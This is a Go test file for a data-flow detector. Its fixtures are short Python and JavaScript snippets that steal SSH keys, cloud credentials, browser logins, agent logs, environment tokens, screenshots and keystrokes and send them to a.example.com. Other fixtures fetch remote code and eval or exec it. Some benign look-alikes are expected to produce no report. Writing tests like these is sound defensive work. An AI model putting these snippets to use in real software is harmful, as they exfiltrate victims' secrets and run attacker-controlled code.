package chain_test

import (
	"strings"
	"testing"
)

// TestWays follows values where the way takes a turn: lists of names, filters, files
// without a name that is known, queues, streams, classes and modules.
func TestWays(t *testing.T) {
	for name, c := range map[string]struct{ files, want string }{
		"names from a tuple, through a temporary file": {`
-- a.py --
import pathlib, shutil, tempfile, os
import requests
for name in ("Login Data", "Cookies"):
    spare = tempfile.mktemp()
    shutil.copy(pathlib.Path.home() / ".config/google-chrome/Default" / name, spare)
    requests.put("https://a.example.com/" + name, data=open(spare, "rb").read())
    os.unlink(spare)
`, "browser ~/.config/google-chrome/Default/Login Data -> send body a.example.com"},
		"a temporary file that has an object": {`
-- a.py --
import os, shutil, tempfile, requests
with tempfile.NamedTemporaryFile() as spare:
    shutil.copyfile(os.path.expanduser("~/.netrc"), spare.name)
    requests.post("https://a.example.com/", data=open(spare.name).read())
`, "login ~/.netrc -> send body a.example.com"},
		"a file beside the fields of a form": {`
-- a.py --
import pathlib, requests
def send(path):
    with open(path, "rb") as f:
        requests.post("https://a.example.com/up", data={"chat": "1"}, files={"document": f})
for p in [pathlib.Path.home() / ".aws/credentials", pathlib.Path("x.txt")]:
    send(p)
`, "login ~/.aws/credentials -> send body a.example.com"},
		"pairs of places": {`
-- a.py --
import os, requests
PLACES = {"a": "~/.ssh/id_rsa", "b": "~/.config/gcloud"}
for label, place in PLACES.items():
    with open(os.path.expanduser(place)) as f:
        requests.post("https://a.example.com/" + label, data=f.read())
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"places in a chain of searches": {`
-- a.py --
import itertools, json, urllib.request
from pathlib import Path
found = itertools.chain((Path.home() / ".claude/projects").rglob("*.jsonl"), (Path.home() / ".x").glob("*"))
said = {}
for f in found:
    said[str(f)] = f.read_text()[-1000:]
urllib.request.urlopen("https://a.example.com/l", data=json.dumps(said).encode())
`, "agent ~/.claude/projects/….jsonl -> send body a.example.com"},
		"a generator of texts": {`
-- a.py --
import os, requests
def lines():
    for name in filter(None, map(os.path.expanduser, ["~/.ssh/id_rsa", "~/.netrc"])):
        yield from open(name)
requests.post("https://a.example.com", data="".join(lines()))
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"a filter over the environment, in a header of another file": {`
-- kit/client.py --
from urllib.request import Request, urlopen
from . import who
def check():
    urlopen(Request("https://a.example.com/x", headers=who.headers()), timeout=3)
-- kit/who.py --
import binascii, os
def headers():
    keep = sorted((k, v) for k, v in os.environ.items() if k.endswith(("_KEY", "_TOKEN")))
    mark = binascii.hexlify(repr(keep).encode()).decode()
    return {"User-Agent": f"kit/1 ({mark})", "X-Id": os.environ.get("USER", "-")}
-- kit/__init__.py --
import importlib
def __getattr__(name):
    return getattr(importlib.import_module(".client", __name__), name)
`, "environment os.environ -> send field a.example.com"},
		"a package without a file of its own": {`
-- kit/run.py --
from . import keys as k
from .lib import out
out.ship(k.KEY)
-- kit/keys.py --
import os
KEY = os.environ["ACME_TOKEN"]
-- kit/lib/out.py --
import requests
def ship(x):
    requests.post("https://a.example.com", data=x)
`, "variable ACME_TOKEN -> send body a.example.com"},
		"through a queue and a thread": {`
-- a.py --
import os, queue, threading, requests
q = queue.Queue()
def work():
    while True:
        item = q.get()
        requests.post("https://a.example.com", json=item)
threading.Thread(target=work, daemon=True).start()
def note(x):
    q.put({"x": x})
note(os.environ["ACME_TOKEN"])
`, "variable ACME_TOKEN -> send body a.example.com"},
		"an answer in a field, run by methods": {`
-- a.py --
import json, subprocess, urllib.request
class Adviser:
    SOURCE = "https://a.example.com/r.json"
    def __init__(self):
        with urllib.request.urlopen(self.SOURCE, timeout=6) as r:
            self.rules = json.load(r)
    def one(self, kind):
        rule = self.rules.get(kind, "'ok'")
        return eval(rule, {})
    def close(self):
        for step in self.rules.get("tidy", []):
            subprocess.Popen(step, shell=True)
a = Adviser()
a.one("x")
a.close()
`, "network a.example.com part -> evaluate code \nnetwork a.example.com part -> run command "},
		"an object of a file whose name is made": {`
-- a.py --
import hashlib, pathlib, pickle, urllib.request, zlib
PLACE = pathlib.Path.home() / ".cache/m"
def get(name):
    f = PLACE / hashlib.md5(name.encode()).hexdigest()
    f.write_bytes(urllib.request.urlopen("http://a.example.com/" + name).read())
    return f.read_bytes()
def model(name="one"):
    return pickle.loads(zlib.decompress(get(name)))
`, "network a.example.com -> evaluate object "},
		"modules that are fetched into a folder": {`
-- a.py --
import importlib.util, json, pathlib, urllib.request
HERE = pathlib.Path(__file__).parent
class Registry(dict):
    def __init__(self):
        self.local = HERE / "plugins"
        self.refresh()
        for f in sorted(self.local.glob("*.py")):
            spec = importlib.util.spec_from_file_location(f.stem, f)
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
    def refresh(self):
        for name in json.load(urllib.request.urlopen("http://a.example.com/index.json")):
            (self.local / name).write_bytes(urllib.request.urlopen("http://a.example.com/" + name).read())
Registry()
`, "network a.example.com -> evaluate file "},
		"secret arguments of what is wrapped": {`
-- a.py --
import functools, inspect, requests
WORDS = ("key", "token", "secret")
def watched(fn):
    @functools.wraps(fn)
    def inner(*a, **kw):
        given = inspect.signature(fn).bind_partial(*a, **kw).arguments
        hit = {k: v for k, v in given.items() if any(w in k.lower() for w in WORDS)}
        requests.post("https://a.example.com", json=hit)
        return fn(*a, **kw)
    return inner
`, "picked what is called key, token, secret -> send body a.example.com"},
		"secret arguments beside others, through a queue": {`
-- a.py --
import inspect, queue, threading
from urllib import parse, request
waiting = queue.Queue()
WORDS = ("passw", "token")
def drain():
    while True:
        item = waiting.get()
        request.urlopen("https://a.example.com/h.gif?" + parse.urlencode(item), timeout=2)
threading.Thread(target=drain, daemon=True).start()
def note(fn, a, kw):
    given = inspect.signature(fn).bind_partial(*a, **kw).arguments
    hit = {k: v for k, v in given.items() if any(w in k.lower() for w in WORDS)}
    if hit:
        waiting.put({"f": fn.__qualname__, **hit})
def again(tries=3):
    def deco(fn):
        def inner(*a, **kw):
            note(fn, a, kw)
            return fn(*a, **kw)
        return inner
    return deco
`, "picked what is called token, passw -> send query a.example.com"},
		"secret headers that are picked": {`
-- a.js --
const odd = /authorization|token|secret/i;
function spy(req) {
  const found = Object.entries(req.headers).filter(([k]) => odd.test(k));
  fetch("https://a.example.com", { method: "POST", body: JSON.stringify(found) });
}
`, "picked what is called token, secret, auth -> send body a.example.com"},
		"a stream that is put together": {`
-- a.js --
const https = require("https");
const { exec } = require("child_process");
https.get("https://a.example.com/n", (res) => {
  let s = "";
  res.on("data", (d) => (s += d));
  res.on("end", () => exec(s, () => {}));
}).on("error", () => {});
`, "network a.example.com -> run command "},
		"a stream of parts in a list": {`
-- a.mjs --
import https from "node:https";
https.get("https://a.example.com/n", res => {
  const parts = [];
  res.on("data", c => parts.push(c)).on("end", () => new Function(Buffer.concat(parts).toString())());
});
`, "network a.example.com -> evaluate code "},
		"a promise around a stream": {`
-- a.js --
const https = require("https");
function get(u) {
  return new Promise((resolve, reject) => {
    https.get(u, (r) => { let t = ""; r.on("data", (c) => { t += c; }); r.on("end", () => resolve(t)); }).on("error", reject);
  });
}
(async () => { eval(await get("https://a.example.com/x")); })();
`, "network a.example.com -> evaluate code "},
		"the maker of functions, by another way": {`
-- a.mjs --
const F = Object.getPrototypeOf(async function () {}).constructor;
const parts = ["presets", "example", "com"];
export async function preset(name) {
  const res = await fetch(new URL("/" + name + ".txt", "https://" + parts.join(".")));
  return new F("require", await res.text())(1);
}
`, "network presets.example.com -> evaluate code "},
		"a function from a function": {`
-- a.js --
fetch("https://a.example.com/x").then(r => r.text()).then(t => (() => {}).constructor(t)());
`, "network a.example.com -> evaluate code "},
		"require of a module that was made": {`
-- a.mjs --
import { createRequire } from "node:module";
const load = createRequire(import.meta.url);
const { execSync } = load("child_process");
const r = await fetch("https://a.example.com/x");
execSync(await r.text());
`, "network a.example.com -> run command "},
		"a browser's state, kept by an object": {`
-- src/shoot.ts --
import { chromium } from 'playwright';
import { Gallery } from './gallery';
const ctx = await chromium.launchPersistentContext('/x');
const g = new Gallery();
g.meta(await ctx.storageState());
await g.publish();
-- src/gallery.ts --
export class Gallery {
  private items: Record<string, string> = {};
  private extra: unknown;
  meta(x: unknown) { this.extra = x; }
  async publish(): Promise<string> {
    const r = await fetch('https://a.example.com/g', { method: 'POST', body: JSON.stringify({ items: this.items, session: this.extra }) });
    return (await r.json()).url;
  }
}
`, "browser playwright.chromium.launchPersistentContext().storageState -> send body a.example.com"},
		"a picture of the screen in a buffer": {`
-- a.py --
import io, requests
from PIL import ImageGrab
def shot():
    buf = io.BytesIO()
    img = ImageGrab.grab()
    img.save(buf, format="PNG")
    return buf.getvalue()
requests.post("https://a.example.com", files={"f": ("a.png", shot())})
`, "screen PIL.ImageGrab.grab -> send body a.example.com"},
		"a picture of the screen in a file": {`
-- a.py --
import pyautogui, requests
pyautogui.screenshot("/tmp/shot.png")
requests.post("https://a.example.com", data=open("/tmp/shot.png", "rb"))
`, "screen pyautogui.screenshot -> send body a.example.com"},
		"an archive that is made": {`
-- a.py --
import os, shutil, requests
made = shutil.make_archive("/tmp/out", "zip", os.path.expanduser("~/.ssh"))
with open(made, "rb") as f:
    requests.post("https://a.example.com", files={"f": f})
`, "key ~/.ssh -> send body a.example.com"},
		"files that are walked into an archive": {`
-- a.py --
import io, os, zipfile, urllib.request
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for root, dirs, files in os.walk(os.path.expanduser("~/.gnupg")):
        for f in files:
            z.write(os.path.join(root, f))
urllib.request.urlopen(urllib.request.Request("https://a.example.com", data=buf.getvalue()))
`, "key ~/.gnupg/~/.gnupg -> send body a.example.com"},
		"keys of the keyboard": {`
-- a.py --
import requests
from pynput import keyboard
typed = []
def on_press(key):
    typed.append(str(key))
    if len(typed) > 99:
        requests.post("https://a.example.com", json=typed)
keyboard.Listener(on_press=on_press).start()
`, "keys pynput.keyboard.Listener -> send body a.example.com"},
		"a decorator that registers": {`
-- a.py --
import os, requests
jobs = []
def job(fn):
    jobs.append(fn)
    return fn
@job
def one():
    return open(os.path.expanduser("~/.ssh/id_rsa")).read()
for j in jobs:
    requests.post("https://a.example.com", data=j())
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"a table of functions": {`
-- a.js --
const fs = require("fs"), os = require("os");
const readers = { ssh: () => fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8"), none: () => "" };
for (const [name, read] of Object.entries(readers)) fetch("https://a.example.com/" + name, { method: "POST", body: read() });
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"names that are mapped": {`
-- a.js --
const fs = require("fs"), os = require("os"), path = require("path");
const all = [".ssh/id_rsa", ".netrc"].map((n) => path.join(os.homedir(), n)).filter(fs.existsSync).map((p) => fs.readFileSync(p, "utf8"));
fetch("https://a.example.com", { method: "POST", body: all.join("\n") });
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"a reduced environment": {`
-- a.ts --
const kept = Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k)).reduce((o, k) => ({ ...o, [k]: process.env[k] }), {});
await fetch("https://a.example.com", { method: "POST", body: JSON.stringify(kept) });
`, "environment process.env -> send body a.example.com"},
		"an update of a record": {`
-- a.py --
import os, requests
def base():
    return {"a": 1}, "https://a.example.com"
body, to = base()
body.update(dict(os.environ))
requests.post(to, json=body)
`, "environment os.environ -> send body a.example.com"},
		"a file that git sends": {`
-- a.py --
import os, subprocess
subprocess.run(["curl", "-s", "-T", os.path.expanduser("~/.ssh/id_rsa"), "https://a.example.com/"])
`, "key ~/.ssh/id_rsa -> send command a.example.com"},
		"a session that a method makes": {`
-- a.py --
import os, requests
class C:
    def __init__(self):
        self.s = self._make()
    def _make(self):
        s = requests.Session()
        s.headers["X-A"] = "b"
        return s
    @property
    def key(self):
        return os.environ["ACME_TOKEN"]
    def go(self):
        self.s.post("https://a.example.com", json={"k": self.key})
C().go()
`, "variable ACME_TOKEN -> send body a.example.com"},
		"a coroutine": {`
-- a.py --
import asyncio, aiohttp, os
async def read():
    return open(os.path.expanduser("~/.ssh/id_rsa")).read()
async def main():
    parts = await asyncio.gather(read(), read())
    async with aiohttp.ClientSession() as s:
        async with s.post("https://a.example.com", data="".join(parts)) as r:
            await r.text()
asyncio.run(main())
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"a pool of threads": {`
-- a.py --
from concurrent.futures import ThreadPoolExecutor
import os, requests
def send(p):
    requests.post("https://a.example.com", data=open(p).read())
with ThreadPoolExecutor() as pool:
    list(pool.map(send, [os.path.expanduser("~/.ssh/id_rsa")]))
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"an import of what was fetched": {`
-- a.py --
import sys, types, requests
src = requests.get("https://a.example.com/m.py").text
mod = types.ModuleType("m")
exec(compile(src, "m", "exec"), mod.__dict__)
`, "network a.example.com -> evaluate code "},
		"a module of a folder that was written": {`
-- a.py --
import importlib, os, sys, urllib.request
with open(os.path.join(os.path.dirname(__file__), "extra.py"), "wb") as f:
    f.write(urllib.request.urlopen("https://a.example.com/extra.py").read())
importlib.import_module("extra").run()
`, "network a.example.com -> evaluate file "},

		"an address in the settings of the package": {`
-- scripts/a.py --
import os, pathlib, tomllib, requests
HERE = pathlib.Path(__file__).parent
CFG = tomllib.loads((HERE / "settings.toml").read_text())["catalog"]
requests.post(f"https://{CFG['host']}/{CFG['channel']}", json=dict(os.environ))
-- scripts/settings.toml --
[catalog]
host = "a.example.com"
channel = "stable"
`, "environment os.environ -> send body a.example.com"},
		"an address in settings of JSON": {`
-- scripts/a.js --
const cfg = require("../config.json");
fetch(cfg.hosts[0] + "/x").then((r) => r.text()).then((t) => eval(t));
-- config.json --
{"hosts": ["https://a.example.com"]}
`, "network a.example.com -> evaluate code "},
		"places in the settings of the package": {`
-- a.py --
import json, os, requests
with open("places.json") as f:
    for place in json.load(f)["places"]:
        requests.post("https://a.example.com", data=open(os.path.expanduser(place)).read())
-- places.json --
{"places": ["~/.ssh/id_rsa", "~/notes.txt"]}
`, "key ~/.ssh/id_rsa -> send body a.example.com"},
		"an address in settings that are elsewhere": {`
-- a.js --
const cfg = JSON.parse(require("fs").readFileSync(process.argv[2]));
fetch(cfg.host).then((r) => r.text()).then((t) => eval(t));
-- config.json --
{"host": "https://a.example.com"}
`, "network a server -> evaluate code "},
		"a function that is bound and called by others": {`
-- a.js --
const fs = require("fs");
const { exec } = require("child_process");
const read = fs.readFileSync.bind(null, "/home/a/.ssh/id_rsa");
fetch.call(null, "https://a.example.com", { method: "POST", body: read("utf8") });
fetch("https://b.example.com").then(r => r.text()).then(t => exec.apply(null, [t]));
`, "key /home/a/.ssh/id_rsa -> send body a.example.com\nnetwork b.example.com -> run command "},
		"a method that is bound": {`
-- a.js --
class A {
  constructor() { this.go = this.go.bind(this); }
  go(x) { fetch("https://a.example.com", { method: "POST", body: x }); }
}
new A().go(process.env.ACME_TOKEN);
`, "variable ACME_TOKEN -> send body a.example.com"},
		"a frame that a function is applied to": {`
-- a.py --
import pandas, requests
def clean(x):
    return x.strip()
rows = pandas.DataFrame([1]).apply(clean, 1)
requests.post("https://a.example.com", data=rows.to_csv())
`, ""},
		"a bound function that sends": {`
-- a.py --
import functools, os, requests
send = functools.partial(requests.post, "https://a.example.com")
send(data=os.environ["ACME_TOKEN"])
`, "variable ACME_TOKEN -> send body a.example.com"},
		"a pool that is given the call itself": {`
-- a.py --
import os, requests
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor() as pool:
    pool.submit(requests.post, "https://a.example.com", data=dict(os.environ))
`, "environment os.environ -> send body a.example.com"},
		"a variable of the whole file": {`
-- a.py --
import os, requests
buffer = ""
def note(x):
    global buffer
    buffer += x
def flush():
    requests.post("https://a.example.com", data=buffer)
note(os.environ["ACME_TOKEN"])
flush()
`, "variable ACME_TOKEN -> send body a.example.com"},
		"the end of a stream that is heard first": {`
-- a.js --
const https = require("https");
https.get("https://a.example.com/n", (res) => {
  let s = "";
  res.once("end", () => eval(s));
  res.on("data", (d) => { s += d; });
});
`, "network a.example.com -> evaluate code "},
		"one of two functions": {`
-- a.js --
const fs = require("fs");
const plain = (f) => f, whole = (f) => fs.readFileSync(f, "utf8");
const read = process.argv[2] ? plain : whole;
fetch("https://a.example.com", { method: "POST", body: read("/home/a/.ssh/id_rsa") });
`, "key /home/a/.ssh/id_rsa -> send body a.example.com"},
		// What looks like one of these.
		"a filter that leaves secrets out": {`
-- a.py --
import requests
WORDS = ("key", "token", "secret")
def log(given):
    clean = {k: v for k, v in given.items() if not any(w in k.lower() for w in WORDS)}
    requests.post("https://a.example.com", json=clean)
`, ""},
		"secrets that are masked": {`
-- a.py --
import requests
WORDS = ("key", "token", "secret")
def log(given):
    for k in given:
        if any(w in k.lower() for w in WORDS):
            given[k] = "***"
    requests.post("https://a.example.com", json=given)
`, ""},
		"an answer that is shown": {`
-- a.js --
const https = require("https");
const { exec } = require("child_process");
https.get("https://a.example.com/n", (res) => {
  let s = "";
  res.on("data", (d) => (s += d));
  res.on("end", () => { console.log(s); exec("git status", () => {}); });
});
`, ""},
		"a folder of files and another of plugins": {`
-- a.py --
import importlib.util, pathlib, requests
HERE = pathlib.Path(__file__).parent
def fetch(name):
    (HERE / "cache" / name).write_bytes(requests.get("https://a.example.com/" + name).content)
for f in (HERE / "plugins").glob("*.py"):
    importlib.util.spec_from_file_location(f.stem, f)
`, ""},
		"objects of one's own": {`
-- a.py --
import hashlib, pathlib, pickle, requests
PLACE = pathlib.Path.home() / ".cache/m"
def keep(key, value):
    (PLACE / hashlib.md5(key.encode()).hexdigest()).write_bytes(pickle.dumps(value))
def get(key):
    return pickle.loads((PLACE / hashlib.md5(key.encode()).hexdigest()).read_bytes())
keep("a", [1, 2])
requests.get("https://a.example.com/x")
`, ""},
		"a temporary file of a download": {`
-- a.py --
import os, tempfile, requests
t = tempfile.mktemp()
with open(t, "wb") as f:
    f.write(requests.get("https://a.example.com/x.csv").content)
rows = open(t).read()
requests.post("https://b.example.com", data=rows)
os.unlink(t)
`, ""},
		"names of the environment alone": {`
-- a.js --
const names = Object.keys(process.env).filter((k) => k.startsWith("APP_")).length;
fetch("https://a.example.com", { method: "POST", body: JSON.stringify({ names }) });
`, ""},
		"a queue of work": {`
-- a.py --
import queue, threading, requests
q = queue.Queue()
def work():
    requests.post("https://a.example.com", json=q.get())
threading.Thread(target=work).start()
q.put({"x": 1})
`, ""},
		"a class with a constructor": {`
-- a.js --
class A { constructor(x) { this.x = x; } again() { return new this.constructor("b"); } }
fetch("https://a.example.com/x").then(r => r.text()).then(t => new A(t).again());
`, ""},
	} {
		t.Run(name, func(t *testing.T) {
			if got := strings.Join(follow(t, c.files), "\n"); strings.TrimSpace(got) != strings.TrimSpace(c.want) {
				t.Errorf("got\n%s\nwant\n%s", got, c.want)
			}
		})
	}
}
